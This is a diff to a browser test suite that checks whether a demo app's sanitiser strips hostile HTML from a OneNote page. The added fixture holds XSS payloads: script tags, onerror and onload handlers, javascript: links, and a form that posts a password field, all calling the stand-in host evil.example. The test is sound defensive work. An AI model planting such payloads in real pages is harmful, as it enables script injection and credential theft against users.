@@ -14,6 +14,20 @@ const LARGE = 30 * 1024 * 1024;
 const PATIENCE = { timeout: 180_000 };
 const STEP = { timeout: 30_000 };
 
+/** What somebody may have put into a shared notebook. */
+const HOSTILE = {
+  address: /\/onenote\/pages\/[^/]+\/content$/,
+  page: `<!doctype html><html><head><title>x</title><script>fetch('https://evil.example/1')</script></head><body><h1 onclick="x()">Bait</h1>${[
+    `<script>fetch('https://evil.example/2')</script>`,
+    `<img alt="a" src="https://evil.example/3" onerror="fetch('https://evil.example/4')">`,
+    '<video src="https://evil.example/5" autoplay></video><embed src="https://evil.example/6">',
+    '<map><area alt="b" href="javascript:x()"></map><a href="javascript:x()">c</a>',
+    '<form action="https://evil.example/7"><input name="password"></form>',
+    `<svg onload="fetch('https://evil.example/8')"></svg><iframe src="https://evil.example/9"></iframe>`,
+    '<p style="background: url(https://evil.example/10)">d</p>',
+  ].join('')}</body></html>`,
+};
+
 /** Of an image, in pixels of its own; 0 until it is there. */
 const widthOf = (image: object): unknown => Reflect.get(image, 'naturalWidth');
 
@@ -135,6 +149,21 @@ describe.skipIf(LACKS_BROWSER).each(WAYS)('the demo front end, signed in by %s',
       expect(visitor.complaints).toEqual([]);
     },
   );
+
+  it('shows of somebody’s page nothing that could act, or fetch from elsewhere', PATIENCE, async () => {
+    const { page } = visitor;
+    await page.route(HOSTILE.address, (route) => route.fulfill({ contentType: 'text/html', body: HOSTILE.page }));
+    await demo.open('OneNote');
+    await demo.button('Worth keeping').click();
+    const body = page.frameLocator('iframe.page').locator('body');
+    await body.getByRole('heading', { name: 'Bait' }).waitFor();
+    expect(await body.innerHTML()).toBe(
+      '<h1>Bait</h1><img alt="a"><map><area alt="b"></map><a target="_blank" rel="noopener noreferrer">c</a><p>d</p>',
+    );
+    await page.unroute(HOSTILE.address);
+    expect(visitor.complaints).toEqual([]);
+    expect([...origins].filter((origin) => origin.includes('evil'))).toEqual([]);
+  });
 
   it('tells of the tokens, refreshes and forgets them', PATIENCE, async () => {
     const token = await demo.open('Token');
